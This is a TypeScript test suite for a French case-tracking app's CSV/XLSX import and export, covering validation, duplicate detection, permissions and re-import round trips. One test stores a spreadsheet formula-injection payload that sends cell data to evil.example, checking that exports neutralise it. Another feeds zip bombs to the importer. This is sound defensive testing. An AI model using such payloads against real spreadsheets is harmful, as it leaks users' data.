import { and, asc, count, eq, like, sql } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { expect, test } from 'vitest';
import { describeEachDb } from '../../db/db.test-utils.ts';
import {
	auditEntriesTable,
	caseActivitiesTable,
	caseImportsTable,
	caseStageChangesTable,
	casesTable,
	personsTable,
	type Role
} from '../../db/schema/index.ts';
import type { Db } from '../../db/index.ts';

import { readTable } from '../../files/tabular.ts';
import { xlsxBomb } from '../../files/zip.test-utils.ts';
import { toActor } from '../account/account.service.ts';
import { listCaseAudit } from '../audit/audit.service.ts';
import { createCase } from '../case/case-intake.service.ts';
import { exportCases } from '../case-export/case-export.service.ts';

import { sampleCaseRows, toCsv } from './case-import.sample.ts';
import {
	createCaseImport,
	importCaseFile,
	listCaseImports,
	previewCaseImport,
	runCaseImport,
	setCaseImportMapping
} from './case-import.service.ts';
import { expectDomainError } from '../../testing/expectations.ts';
import { createTestProgramme, insertTestUsers, insertTestCommunes } from '../../testing/factories.ts';

const COMMUNES = ['32013', '32435', '32412'];
const bytes = (text: string) => new TextEncoder().encode(text);

describeEachDb('case import and export', (ctx) => {
	const n = async (db: Db, table: typeof casesTable | typeof personsTable | typeof caseStageChangesTable) =>
		Number((await db.select({ n: count() }).from(table))[0].n);

	const setup = async () => {
		const db = ctx.db;
		const programme = await createTestProgramme(db);
		const other = await createTestProgramme(db, { slug: 'lot', name: 'Lot', departements: ['46'] });
		await insertTestCommunes(db, [
			{ code: '32013', name: 'Auch', departementCode: '32' },
			{ code: '32435', name: 'Simorre', departementCode: '32' },
			{ code: '32412', name: 'Samatan', departementCode: '32' }
		]);
		const user = async (role: Role, email: string, programmeId = programme.id) => {
			const [created] = await insertTestUsers(db, { name: email, email, role, programmeId });
			return toActor(created);
		};
		return {
			db,
			programme,
			other,
			actors: {
				advisor: await user('advisor', 'advisor@gers.example'),
				admin: await user('admin', 'admin@gers.example'),
				committee: await user('committee', 'committee@gers.example'),
				partner: await user('partner', 'partner@gers.example'),
				candidate: await user('candidate', 'candidate@gers.example'),
				otherAdvisor: await user('advisor', 'advisor@lot.example', other.id)
			}
		};
	};

	test('a 500-row file with 3 bad rows lists exactly those rows with their errors and imports nothing; fixed, it imports 500 cases with their stage history', async () => {
		const { db, actors } = await setup();
		const rows = sampleCaseRows(500, COMMUNES);
		const broken = rows.map((row) => ({ ...row }));
		broken[9].installed_commune = '99999'; // row 11: unknown INSEE code (an installed household)
		broken[199].email = 'not-an-email'; // row 201
		broken[399].contact_date = '31/02/2021'; // row 401: no such date
		broken[399].household_size = '40';

		const { import: draft } = await createCaseImport(
			{ actor: actors.advisor, input: { fileName: 'suivi-2019-2024.csv', bytes: bytes(toCsv(broken)) } },
			{ db }
		);
		expect(draft).toMatchObject({ status: 'draft', rowCount: 500, format: 'csv' });
		const preview = await previewCaseImport({ actor: actors.advisor, importId: draft.id }, { db });
		expect(preview.mappingIssues).toEqual([]);
		expect(preview.counts).toMatchObject({ rows: 500, rowsInError: 3, valid: 497 });
		expect(preview.canImport).toBe(false);
		expect([...new Set(preview.issues.map((issue) => issue.row))]).toEqual([11, 201, 401]);
		expect(preview.issues.map(({ row, column, code }) => ({ row, column, code }))).toEqual([
			{ row: 11, column: 'installed_commune', code: 'case_import.unknown_commune' },
			{ row: 201, column: 'email', code: 'case_import.invalid_email' },
			{ row: 401, column: 'household_size', code: 'case_import.invalid_household_size' },
			{ row: 401, column: 'contact_date', code: 'case_import.invalid_date' }
		]);
		await expectDomainError(
			runCaseImport({ actor: actors.advisor, importId: draft.id }, { db }),
			'case_import.has_errors'
		);
		expect(await n(db, casesTable)).toBe(0);
		expect(await n(db, personsTable)).toBe(0);

		const { import: fixed } = await createCaseImport(
			{ actor: actors.advisor, input: { fileName: 'suivi-2019-2024.csv', bytes: bytes(toCsv(rows)) } },
			{ db }
		);
		const fixedPreview = await previewCaseImport({ actor: actors.advisor, importId: fixed.id }, { db });
		expect(fixedPreview).toMatchObject({ canImport: true, issues: [] });
		expect(fixedPreview.counts).toMatchObject({
			rows: 500,
			valid: 500,
			newCases: 500,
			possibleDuplicates: 0
		});
		const { summary } = await runCaseImport({ actor: actors.advisor, importId: fixed.id }, { db });
		expect(summary.created).toBe(500);
		expect(await n(db, casesTable)).toBe(500);
		// 100 rows per stage: contact 1 change, qualified 2, installed 3, left 4, abandoned 2.
		expect(await n(db, caseStageChangesTable)).toBe(100 * (1 + 2 + 3 + 4 + 2));
		expect(summary.stageChanges).toBe(1200);
		// household_size 1..4 in turn: the candidate and unnamed others.
		expect(await n(db, personsTable)).toBe(125 * (1 + 2 + 3 + 4));

		const [left] = await db.select().from(casesTable).where(eq(casesTable.externalId, 'EXT-00004'));
		expect(left).toMatchObject({
			stage: 'left_territory',
			installedCommuneCode: COMMUNES[3 % 3],
			leftReason: 'Mutation; retour en ville',
			source: 'press',
			createdBy: actors.advisor.userId
		});
		const history = await db
			.select()
			.from(caseStageChangesTable)
			.where(eq(caseStageChangesTable.caseId, left.id))
			.orderBy(caseStageChangesTable.changedAt);
		expect(
			history.map((change) => [change.fromStage, change.toStage, change.changedAt.toISOString().slice(0, 10)])
		).toEqual([
			[null, 'contact', rows[3].contact_date],
			['contact', 'qualified', rows[3].qualified_date],
			['qualified', 'installed', rows[3].installed_date],
			['installed', 'left_territory', rows[3].left_date]
		]);
		expect(history[3].reason).toBe('Mutation; retour en ville');
		const [note] = await db.select().from(caseActivitiesTable).where(eq(caseActivitiesTable.caseId, left.id));
		expect(note).toMatchObject({ kind: 'note', summary: 'Importé depuis suivi-2019-2024.csv' });
		const [candidate] = await db.select().from(personsTable).where(eq(personsTable.caseId, left.id));
		expect(candidate).toMatchObject({
			householdRole: 'candidate',
			phone: '+33610000003',
			originArea: 'ile_de_france',
			originAreaOther: null,
			// "numérique" in the file is the sector of the vocabulary.
			sector: 'digital',
			sectorOther: null
		});

		// The history of changes of an imported case starts with the import, by the advisor who ran it.
		const { entries } = await listCaseAudit({ actor: actors.admin, caseId: left.id }, { db });
		expect(entries.map((entry) => [entry.entityType, entry.action, entry.actorLabel])).toEqual(
			expect.arrayContaining([
				['case', 'create', actors.advisor.name],
				['person', 'create', actors.advisor.name]
			])
		);

		const [done] = await db.select().from(caseImportsTable).where(eq(caseImportsTable.id, fixed.id));
		expect(done).toMatchObject({ status: 'imported', summary: { created: 500 } });
		await expectDomainError(
			runCaseImport({ actor: actors.advisor, importId: fixed.id }, { db }),
			'case_import.already_done'
		);
	});

	test('a 3,000-row import, written in several batches, gives every row the cases, household, stage history, note and audit that a small import of that row gives', async () => {
		const { db, programme, other } = await setup();
		const rows = sampleCaseRows(3000, COMMUNES, 'BIG');
		const now = new Date('2030-03-01T10:00:00Z');
		const system = (programmeId: string) => ({ system: true as const, programmeId, locale: 'fr' as const });
		const big = await importCaseFile(
			{ actor: system(programme.id), input: { fileName: 'records.csv', bytes: bytes(toCsv(rows)) } },
			{ db, now }
		);
		expect(big.status).toBe('imported');
		// Rows on each side of the write batches (2,000 rows per INSERT), imported alone elsewhere.
		const sampled = [0, 1, 1998, 1999, 2000, 2999];
		for (const index of sampled) {
			const small = await importCaseFile(
				{ actor: system(other.id), input: { fileName: 'records.csv', bytes: bytes(toCsv([rows[index]])) } },
				{ db, now }
			);
			expect(small.status).toBe('imported');
		}
		const written = async (programmeId: string, externalId: string) => {
			const [kase] = await db
				.select()
				.from(casesTable)
				.where(and(eq(casesTable.programmeId, programmeId), eq(casesTable.externalId, externalId)));
			const persons = await db
				.select()
				.from(personsTable)
				.where(eq(personsTable.caseId, kase.id))
				.orderBy(asc(personsTable.householdRole));
			const changes = await db
				.select()
				.from(caseStageChangesTable)
				.where(eq(caseStageChangesTable.caseId, kase.id))
				.orderBy(asc(caseStageChangesTable.changedAt));
			const notes = await db
				.select()
				.from(caseActivitiesTable)
				.where(eq(caseActivitiesTable.caseId, kase.id));
			const audit = await db
				.select()
				.from(auditEntriesTable)
				.where(eq(auditEntriesTable.caseId, kase.id))
				.orderBy(asc(auditEntriesTable.entityType));
			// Ids, references, the programme and the import differ between the two programmes.
			const { id: _id, programmeId: _p, reference: _r, ...caseValues } = kase;
			const { reference: _ref, importId: _imp, row: _row, ...noteData } = notes[0].data;
			return {
				case: caseValues,
				// Persons take the transaction's time (database default), the import's `now` elsewhere.
				persons: persons.map(
					({ id: _i, programmeId: _pp, caseId: _c, createdAt: _ca, updatedAt: _ua, ...person }) => person
				),
				changes: changes.map(({ id: _i, programmeId: _pp, caseId: _c, ...change }) => change),
				notes: notes.map((note) => [note.kind, note.summary, note.occurredAt.toISOString()]),
				noteData,
				audit: audit.map((entry) => {
					const { reference: _a, importId: _b, ...after } = entry.after;
					return [entry.entityType, entry.action, entry.actorLabel, entry.at.toISOString(), after];
				})
			};
		};
		for (const index of sampled) {
			const externalId = rows[index].external_id;
			const fromBig = await written(programme.id, externalId);
			expect(fromBig).toEqual(await written(other.id, externalId));
			expect(fromBig.changes.length).toBeGreaterThan(0);
			expect(fromBig.audit).toHaveLength(1 + fromBig.persons.length);
		}
		// Every row of the big import has its history: as many entries as cases and persons.
		const inProgramme = async (table: typeof auditEntriesTable | typeof caseStageChangesTable) =>
			Number((await db.select({ n: count() }).from(table).where(eq(table.programmeId, programme.id)))[0].n);
		const persons = Number(
			(
				await db.select({ n: count() }).from(personsTable).where(eq(personsTable.programmeId, programme.id))
			)[0].n
		);
		expect(await inProgramme(auditEntriesTable)).toBe(3000 + persons);
		expect(await inProgramme(caseStageChangesTable)).toBe(big.summary?.stageChanges);
		const [withoutHistory] = await db
			.select({ n: count() })
			.from(casesTable)
			.where(
				and(
					eq(casesTable.programmeId, programme.id),
					sql`not exists (select 1 from ${caseStageChangesTable} s where s.case_id = ${casesTable.id})`
				)
			);
		expect(Number(withoutHistory.n)).toBe(0);
	});

	test('a second import of the same records is refused row by row as already imported', async () => {
		const { db, actors } = await setup();
		const csv = toCsv(sampleCaseRows(5, COMMUNES));
		const first = await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'a.csv', bytes: bytes(csv) } },
			{ db }
		);
		expect(first.status).toBe('imported');
		const again = await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'a.csv', bytes: bytes(csv) } },
			{ db }
		);
		expect(again.status).toBe('invalid');
		expect(again.issues.map((issue) => [issue.row, issue.code])).toEqual(
			[2, 3, 4, 5, 6].map((row) => [row, 'case_import.already_imported'])
		);
		expect(await n(db, casesTable)).toBe(5);
		// The same id twice in one file is refused on its second row.
		const twice = toCsv([sampleCaseRows(1, COMMUNES, 'NEW')[0], sampleCaseRows(1, COMMUNES, 'NEW')[0]]);
		const repeated = await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'b.csv', bytes: bytes(twice), isDryRun: true } },
			{ db }
		);
		expect(repeated.issues.map((issue) => [issue.row, issue.code])).toEqual([
			[3, 'case_import.external_id_repeated']
		]);
	});

	test('a person already known by email, phone or name with birth year is flagged as a possible duplicate, not refused', async () => {
		const { db, actors } = await setup();
		const { case: known } = await createCase(
			{
				actor: actors.advisor,
				input: { firstName: 'Hélène', lastName: 'Garnier', email: 'helene@example.org', birthYear: '1985' }
			},
			{ db }
		);
		const csv = [
			'Nom;Prénom;Courriel;Année de naissance;Étape;Date de contact',
			'Garnier;Hélène;HELENE@example.org;;Premier contact;2024-01-05',
			'GARNIER;Helene;;1985;contact;05/01/2024',
			'Durand;Paul;paul@example.org;;contact;2024-01-06',
			'Durand;Paul;paul@example.org;;qualifié;2024-01-06'
		].join('\n');
		const { import: draft } = await createCaseImport(
			{ actor: actors.advisor, input: { fileName: 'doublons.csv', bytes: bytes(csv) } },
			{ db }
		);
		const preview = await previewCaseImport({ actor: actors.advisor, importId: draft.id }, { db });
		expect(preview.issues).toEqual([]);
		expect(preview.duplicates).toEqual([
			{ row: 2, caseId: known.id, ofRow: null },
			{ row: 3, caseId: known.id, ofRow: null },
			{ row: 5, caseId: null, ofRow: 4 }
		]);
		await runCaseImport({ actor: actors.advisor, importId: draft.id }, { db });
		const cases = await db.select().from(casesTable);
		expect(cases.filter((kase) => kase.possibleDuplicateOf === known.id)).toHaveLength(2);
		const paul = await db.select().from(personsTable).where(eq(personsTable.email, 'paul@example.org'));
		const [second] = cases.filter((kase) => kase.stage === 'qualified');
		expect(second.possibleDuplicateOf).toBe(paul.find((person) => person.caseId !== second.id)?.caseId);
	});

	test('French headers are mapped automatically and the mapping can be corrected before importing', async () => {
		const { db, actors } = await setup();
		const csv = [
			'Nom,Prénom,Etat du dossier,Téléphone,Commune (INSEE)',
			'Garnier,Hélène,installé,0612345678,32013'
		].join('\r\n');
		const { import: draft } = await createCaseImport(
			{ actor: actors.advisor, input: { fileName: 'x.csv', bytes: bytes(csv) } },
			{ db }
		);
		expect(draft.mapping).toEqual(['last_name', 'first_name', null, 'phone', null]);
		const before = await previewCaseImport({ actor: actors.advisor, importId: draft.id }, { db });
		expect(before.mappingIssues).toEqual([{ code: 'case_import.missing_column', field: 'stage' }]);
		expect(before.canImport).toBe(false);
		await setCaseImportMapping(
			{
				actor: actors.advisor,
				importId: draft.id,
				mapping: ['last_name', 'first_name', 'stage', 'phone', 'installed_commune']
			},
			{ db }
		);
		const after = await previewCaseImport({ actor: actors.advisor, importId: draft.id }, { db });
		expect(after.issues.map((issue) => [issue.row, issue.field, issue.code])).toEqual([
			[2, 'installed_date', 'case_import.installed_date_required']
		]);
	});

	test('each cell is checked: dates, SIRET, stage, source, order of dates', async () => {
		const { db, actors } = await setup();
		const header =
			'last_name;stage;contact_date;qualified_date;installed_date;installed_commune;business_siret;status;source;left_date';
		const csv = [
			header,
			'A;installed;2024-01-10;2024-01-05;2024-02-01;32013;73282932000074;indépendant;salon;', // qualified before contact
			'B;nowhere;;;;;12345678901234;astronaut;pigeon;', // stage, siret, source (a status of no known kind is "other")
			'C;contact;2024-13-01;;;;;;;2024-05-01', // bad date, left without leaving
			'D;left_territory;2020-01-01;;2021-01-01;32013;;;;' // left without date
		].join('\n');
		const result = await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'x.csv', bytes: bytes(csv), isDryRun: true } },
			{ db }
		);
		expect(result.issues.map((issue) => [issue.row, issue.field, issue.code])).toEqual([
			[2, 'qualified_date', 'case_import.dates_out_of_order'],
			[3, 'stage', 'case_import.unknown_stage'],
			[3, 'business_siret', 'case_import.invalid_siret'],
			[3, 'source', 'case_import.invalid_source'],
			[4, 'contact_date', 'case_import.invalid_date'],
			[4, 'left_date', 'case_import.left_date_without_leaving'],
			[5, 'left_date', 'case_import.left_date_required']
		]);
		expect(result.status).toBe('invalid');
	});

	test('a status, sector or origin of no known kind is imported as "other" with its words, known words as keys; the export writes the origin’s label, which re-imports as it was', async () => {
		const { db, actors } = await setup();
		const csv = [
			'external_id;last_name;stage;contact_date;status;sector',
			'V-1;Aubert;contact;2024-01-10;Indépendante;NUMÉRIQUE',
			'V-2;Brun;contact;2024-01-11;retraité;Astrophysique',
			'V-3;Colin;contact;2024-01-12;;'
		].join('\n');
		const result = await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'v.csv', bytes: bytes(csv), isDryRun: false } },
			{ db }
		);
		expect(result.status).toBe('imported');
		const persons = await db
			.select({
				lastName: personsTable.lastName,
				status: personsTable.status,
				statusOther: personsTable.statusOther,
				sector: personsTable.sector,
				sectorOther: personsTable.sectorOther
			})
			.from(personsTable)
			.orderBy(personsTable.lastName);
		expect(persons).toEqual([
			{ lastName: 'Aubert', status: 'freelancer', statusOther: null, sector: 'digital', sectorOther: null },
			{
				lastName: 'Brun',
				status: 'other',
				statusOther: 'retraité',
				sector: 'other',
				sectorOther: 'Astrophysique'
			},
			{ lastName: 'Colin', status: null, statusOther: null, sector: null, sectorOther: null }
		]);

		const origins = async () =>
			db
				.select({
					lastName: personsTable.lastName,
					country: personsTable.originCountry,
					area: personsTable.originArea,
					other: personsTable.originAreaOther
				})
				.from(personsTable)
				.where(like(personsTable.lastName, 'O-%'))
				.orderBy(personsTable.lastName);
		// Origins: a département, a département's number, a country (name or code), any other text.
		const originCsv = [
			'external_id;last_name;stage;contact_date;origin',
			'O-1;O-Aubert;contact;2024-01-10;Haute-Garonne',
			'O-2;O-Brun;contact;2024-01-11;75',
			'O-3;O-Colin;contact;2024-01-12;Belgique',
			'O-4;O-Dumas;contact;2024-01-13;NL',
			'O-5;O-Evrard;contact;2024-01-14;Polynésie'
		].join('\n');
		await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'o.csv', bytes: bytes(originCsv), isDryRun: false } },
			{ db }
		);
		expect(await origins()).toEqual([
			{ lastName: 'O-Aubert', country: null, area: 'occitanie', other: null },
			{ lastName: 'O-Brun', country: null, area: 'ile_de_france', other: null },
			{ lastName: 'O-Colin', country: 'BE', area: 'abroad', other: null },
			{ lastName: 'O-Dumas', country: 'NL', area: 'abroad', other: null },
			{ lastName: 'O-Evrard', country: null, area: 'other', other: 'Polynésie' }
		]);
		// The export writes the origin's label in the exporter's language, which re-imports as it was.
		const exported = await exportCases({ actor: actors.advisor, format: 'csv', filters: {} }, { db });
		const { table } = await readTable('cases.csv', exported.body);
		const originColumn = table.headers.indexOf('origin');
		const byName = new Map(
			table.rows.map((row) => [row[table.headers.indexOf('last_name')], row[originColumn]])
		);
		expect(['O-Aubert', 'O-Brun', 'O-Colin', 'O-Dumas', 'O-Evrard'].map((name) => byName.get(name))).toEqual([
			'Occitanie',
			'Île-de-France',
			'Belgique',
			'Pays-Bas',
			'Polynésie'
		]);
		// Imported again in place of the cases (the same external ids), the origins come back as they were.
		await db.delete(casesTable).where(eq(casesTable.programmeId, actors.advisor.programmeId));
		await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'cases.csv', bytes: exported.body, isDryRun: false } },
			{ db }
		);
		expect(await origins()).toEqual([
			{ lastName: 'O-Aubert', country: null, area: 'occitanie', other: null },
			{ lastName: 'O-Brun', country: null, area: 'ile_de_france', other: null },
			{ lastName: 'O-Colin', country: 'BE', area: 'abroad', other: null },
			{ lastName: 'O-Dumas', country: 'NL', area: 'abroad', other: null },
			{ lastName: 'O-Evrard', country: null, area: 'other', other: 'Polynésie' }
		]);
	});

	test('bad files are refused with a clear code', async () => {
		const { db, actors } = await setup();
		const upload = (fileName: string, content: Uint8Array) =>
			createCaseImport({ actor: actors.advisor, input: { fileName, bytes: content } }, { db });
		await expectDomainError(upload('x.csv', new Uint8Array()), 'case_import.empty_file');
		await expectDomainError(upload('x.csv', bytes('last_name;stage\n')), 'case_import.no_rows');
		await expectDomainError(upload('x.xls', bytes('\xd0\xcf')), 'case_import.unsupported_format');
		await expectDomainError(upload('x.xlsx', bytes('PK\x03\x04garbage')), 'case_import.unreadable_file');
		await expectDomainError(
			upload('x.csv', new Uint8Array(6 * 1024 * 1024).fill(65)),
			'case_import.file_too_large'
		);
	});

	test('only programme staff import; another programme’s import is not found', async () => {
		const { db, actors } = await setup();
		const input = { fileName: 'x.csv', bytes: bytes(toCsv(sampleCaseRows(2, COMMUNES))) };
		for (const actor of [actors.committee, actors.partner, actors.candidate]) {
			await expectDomainError(createCaseImport({ actor, input }, { db }), 'case_import.forbidden');
			await expectDomainError(importCaseFile({ actor, input }, { db }), 'case_import.forbidden');
			await expectDomainError(exportCases({ actor, format: 'csv' }, { db }), 'case_export.forbidden');
		}
		const { import: draft } = await createCaseImport({ actor: actors.admin, input }, { db });
		await expectDomainError(
			previewCaseImport({ actor: actors.otherAdvisor, importId: draft.id }, { db }),
			'case_import.not_found'
		);
		await expectDomainError(
			runCaseImport({ actor: actors.otherAdvisor, importId: draft.id }, { db }),
			'case_import.not_found'
		);
		await expectDomainError(
			previewCaseImport({ actor: actors.advisor, importId: 'nonsense' }, { db }),
			'case_import.not_found'
		);
		expect((await listCaseImports({ actor: actors.otherAdvisor }, { db })).imports).toEqual([]);
		expect((await listCaseImports({ actor: actors.advisor }, { db })).imports).toHaveLength(1);
	});

	test('a name typed as a spreadsheet formula is exported as text in CSV and XLSX, and re-imports as typed', async () => {
		const { db, actors } = await setup();
		const formula = '=HYPERLINK("http://evil.example/?x="&A1,"CLICK")';
		await createCase(
			{
				actor: actors.advisor,
				input: { firstName: formula, lastName: '-2+3', phone: '+33 6 12 34 56 78', birthYear: '1985' }
			},
			{ db }
		);
		const csv = await exportCases({ actor: actors.advisor, format: 'csv' }, { db });
		const text = new TextDecoder().decode(csv.body);
		expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""CLICK"")"`);
		expect(text).toContain(";'-2+3;");
		expect(text).toContain(";'+33612345678;");
		expect(text).not.toMatch(/(^|;)"?[=+@]/m);
		expect(text).not.toMatch(/(^|;)-\D/m);

		const xlsx = await exportCases({ actor: actors.advisor, format: 'xlsx' }, { db });
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
		const cell = workbook.worksheets[0].getRow(2).getCell(2);
		expect(cell.type).toBe(ExcelJS.ValueType.String);
		expect(cell.value).toBe(`'${formula}`);

		for (const [name, body] of [
			['cases.csv', csv.body],
			['cases.xlsx', xlsx.body]
		] as const) {
			const { table } = await readTable(name, body);
			expect(table.rows[0][table.headers.indexOf('first_name')]).toBe(formula);
			expect(table.rows[0][table.headers.indexOf('birth_year')]).toBe('1985');
		}
	});

	test('a zip bomb, a 100,000-column CSV and a file over the row limit are refused before parsing, naming the limit', async () => {
		const { db, actors } = await setup();
		const wide = Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(';');
		for (const [fileName, body, code, details] of [
			['bomb.xlsx', xlsxBomb(116), 'case_import.unpacks_too_large', { maxMegabytes: 50 }],
			['liar.xlsx', xlsxBomb(116, { isLying: true }), 'case_import.unpacks_too_large', { maxMegabytes: 50 }],
			['wide.csv', bytes(`${wide}\r\n${wide}\r\n`), 'case_import.too_many_columns', { max: 200 }],
			[
				'long.csv',
				bytes(['a;b', ...Array.from({ length: 20_001 }, (_, i) => `${i};x`)].join('\r\n')),
				'case_import.too_many_rows',
				{ max: 20_000 }
			]
		] as const) {
			const error = await expectDomainError(
				importCaseFile({ actor: actors.advisor, input: { fileName, bytes: body } }, { db }),
				code
			);
			expect(error.details, fileName).toMatchObject(details);
		}
		expect(await n(db, casesTable)).toBe(0);
	});

	test('an export re-imports as is: CSV and XLSX carry the same cases with their dates', async () => {
		const { db, actors, other } = await setup();
		const rows = sampleCaseRows(20, COMMUNES);
		await importCaseFile(
			{ actor: actors.advisor, input: { fileName: 'a.csv', bytes: bytes(toCsv(rows)) } },
			{ db }
		);

		const csv = await exportCases(
			{ actor: actors.advisor, format: 'csv', filters: {} },
			{ db, now: new Date('2025-06-01T10:00:00Z') }
		);
		expect(csv).toMatchObject({
			fileName: 'cases-2025-06-01.csv',
			contentType: 'text/csv; charset=utf-8',
			count: 20
		});
		expect([...csv.body.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
		const text = new TextDecoder().decode(csv.body);
		expect(text.split('\r\n')[0]).toMatch(
			/^external_id;first_name;last_name;email;.*;reference;stage_label;advisor$/
		);

		const filtered = await exportCases(
			{ actor: actors.advisor, format: 'csv', filters: { stages: ['installed'] } },
			{ db }
		);
		expect(filtered.count).toBe(4);

		const xlsx = await exportCases({ actor: actors.advisor, format: 'xlsx' }, { db });
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(xlsx.body as unknown as ArrayBuffer);
		expect(workbook.worksheets[0].getRow(1).font?.bold).toBe(true);

		// Both files read back to the imported values, and import into another programme without error.
		const otherAdvisor = actors.otherAdvisor;
		await insertTestCommunes(db, { code: '46042', name: 'Cahors', departementCode: '46' });
		for (const file of [
			{ name: 'cases.csv', body: csv.body },
			{ name: 'cases.xlsx', body: xlsx.body }
		]) {
			const { table } = await readTable(file.name, file.body);
			const byId = new Map(
				table.rows.map((row) => [
					row[0],
					Object.fromEntries(table.headers.map((header, i) => [header, row[i]]))
				])
			);
			for (const row of rows) {
				const exported = byId.get(row.external_id) ?? {};
				for (const field of [
					'last_name',
					'email',
					'stage',
					'installed_date',
					'installed_commune',
					'left_date',
					'business_siret'
				]) {
					expect(exported[field], `${file.name} ${row.external_id} ${field}`).toBe(row[field]);
				}
				const contact = row.contact_date.includes('/')
					? row.contact_date.split('/').reverse().join('-')
					: row.contact_date;
				expect(exported.contact_date).toBe(contact);
				expect(exported.qualified_date).toBe(row.qualified_date);
			}
			const reimport = await importCaseFile(
				{
					actor: { ...otherAdvisor, programmeId: other.id },
					input: { fileName: file.name, bytes: file.body, isDryRun: true }
				},
				{ db }
			);
			expect(reimport.issues).toEqual([]);
			expect(reimport.counts.valid).toBe(20);
		}
	});
});
